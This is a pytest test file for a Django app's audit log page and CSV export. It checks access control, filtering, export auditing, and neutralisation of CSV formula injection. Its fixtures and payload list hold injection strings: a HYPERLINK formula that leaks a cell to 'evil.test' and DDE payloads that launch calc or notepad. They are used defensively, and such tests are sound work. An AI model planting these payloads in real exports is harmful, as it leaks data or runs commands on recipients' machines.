"""The audit log page and its CSV export: who may see it, filters, export, and R41 (CSV
formula injection) for ``postroom.core.csv``."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from postroom.audit.actions import audit_record
from postroom.audit.models import AuditEvent
from postroom.conftest import Cast
from postroom.core.csv import FORMULA_TRIGGERS, csv_rows

LOG = reverse("audit:log", args=["acme"])
EXPORT = reverse("audit:export", args=["acme"])


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def exported(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    return parse_csv(b"".join(response.streaming_content).decode("utf-8"))


@pytest.fixture
def history(cast: Cast) -> None:
    """Events on three days in A, and one in B that A must never see."""
    with time_machine.travel(datetime(2026, 3, 1, 9, tzinfo=UTC), tick=False):
        audit_record(action="member.added", actor=cast.alice, organization=cast.org_a, target_label="bob@acme.test")
    with time_machine.travel(datetime(2026, 3, 2, 9, tzinfo=UTC), tick=False):
        audit_record(action="member.role_changed", actor=cast.alice, organization=cast.org_a, target_label="carol@acme.test", details={"from": "member", "to": "admin"})
        audit_record(action="invitation.accept_refused", actor=cast.bob, organization=cast.org_a, target_label="x@example.test", result="denied")
    with time_machine.travel(datetime(2026, 3, 3, 9, tzinfo=UTC), tick=False):
        audit_record(action="team.created", actor=cast.carol, organization=cast.org_a, target_label='=HYPERLINK("http://evil.test","click")')
        audit_record(action="team.created", actor=cast.charlie, organization=cast.org_b, target_label="Beta secret team")


@pytest.mark.django_db
@pytest.mark.usefixtures("history")
def test_owner_and_admin_read_the_log_member_gets_403_outsider_404(cast: Cast, client_as) -> None:
    for user in (cast.alice, cast.carol):
        page = client_as(user).get(LOG)
        assert page.status_code == 200
        assert b"member.role_changed" in page.content
        assert b"Beta secret team" not in page.content
    assert client_as(cast.bob).get(LOG).status_code == 403
    assert client_as(cast.charlie).get(LOG).status_code == 404
    assert client_as(cast.charlie).post(EXPORT).status_code == 404
    assert client_as(cast.bob).post(EXPORT).status_code == 403
    anonymous = Client().get(LOG)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith(reverse("account_login"))


def _shown_actions(page) -> list[str]:  # type: ignore[no-untyped-def]
    return [event.action for event in page.context["page"]]


@pytest.mark.django_db
@pytest.mark.usefixtures("history")
def test_log_filters_by_action_person_result_and_dates(cast: Cast, client_as) -> None:
    client = client_as(cast.alice)
    assert _shown_actions(client.get(LOG)) == ["team.created", "invitation.accept_refused", "member.role_changed", "member.added"]
    assert _shown_actions(client.get(LOG, {"action": "member."})) == ["member.role_changed", "member.added"]
    assert _shown_actions(client.get(LOG, {"person": "carol"})) == ["team.created", "member.role_changed"]  # actor or target
    assert _shown_actions(client.get(LOG, {"result": "denied"})) == ["invitation.accept_refused"]
    assert _shown_actions(client.get(LOG, {"since": "2026-03-02", "until": "2026-03-02"})) == ["invitation.accept_refused", "member.role_changed"]
    assert _shown_actions(client.get(LOG, {"since": "2026-03-03"})) == ["team.created"]
    assert _shown_actions(client.get(LOG, {"action": "member.", "person": "bob", "until": "2026-03-01"})) == ["member.added"]


@pytest.mark.django_db
@pytest.mark.usefixtures("history")
def test_export_is_a_post_that_is_audited_and_follows_the_filters(cast: Cast, client_as) -> None:
    client = client_as(cast.carol)
    assert client.get(EXPORT).status_code == 405
    response = client.post(EXPORT, {"action": "member."})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="postroom-audit-acme-')
    rows = exported(response)
    assert rows[0][:4] == ["time (UTC)", "actor", "action", "result"]
    assert [row[2] for row in rows[1:]] == ["member.role_changed", "member.added"]
    assert rows[1][0] == "2026-03-02 09:00:00"
    assert json.loads(rows[1][8]) == {"from": "member", "to": "admin"}
    event = AuditEvent.objects.get(action="audit.exported")
    assert (event.actor_id, event.organization_id, event.details) == (cast.carol.pk, cast.org_a.pk, {"action": "member."})


@pytest.mark.django_db
@pytest.mark.usefixtures("history")
def test_r41_exported_labels_cannot_run_as_formulas(cast: Cast, client_as) -> None:
    rows = exported(client_as(cast.alice).post(EXPORT, {"action": "team."}))
    assert rows[1][5] == """'=HYPERLINK("http://evil.test","click")"""
    assert not any("Beta secret team" in cell for row in rows for cell in row)


# --- R41: postroom.core.csv ------------------------------------------------------------------------
def is_dangerous(value: str) -> bool:
    """SECURITY.md R41: starts, after optional whitespace, with = + - @ TAB CR or NUL (TAB and CR are whitespace themselves)."""
    triggers = ("=", "+", "-", "@", "\t", "\r", "\x00")
    return value.startswith(triggers) or value.lstrip().startswith(triggers)


def test_r41_every_trigger_after_optional_whitespace_is_neutralised() -> None:
    payloads = [
        '=HYPERLINK("http://evil.test?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1",
        "\t=1+1", "\r=1+1", "\x00=1", "  =1+1", "\n=1+1", "\u3000@SUM(1)", " \x00x", "=cmd|' /C notepad'!'A1'",
    ]
    rows = parse_csv("".join(csv_rows(["cell"], [[payload] for payload in payloads])))
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in payloads]
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r", "\x00"}


def test_r41_harmless_cells_round_trip() -> None:
    cells = ["alice@acme.test", "a=b", "1-2", "", "quote \" inside", "comma, inside", "line\nbreak", "x@y", "café ☕"]
    assert parse_csv("".join(csv_rows(["cell"], [[cell] for cell in cells])))[1:] == [[cell] for cell in cells]


@given(st.lists(st.lists(st.text(max_size=30), min_size=1, max_size=5), min_size=1, max_size=8))
def test_r41_hypothesis_dangerous_cells_get_a_quote_others_round_trip(table: list[list[str]]) -> None:
    width = max(len(row) for row in table)
    table = [row + [""] * (width - len(row)) for row in table]
    parsed = parse_csv("".join(csv_rows(["h"] * width, table)))
    assert len(parsed) == len(table) + 1  # RFC 4180 quoting keeps every row one record
    for original_row, parsed_row in zip(table, parsed[1:], strict=True):
        for original, cell in zip(original_row, parsed_row, strict=True):
            assert cell == ("'" + original if is_dangerous(original) else original)
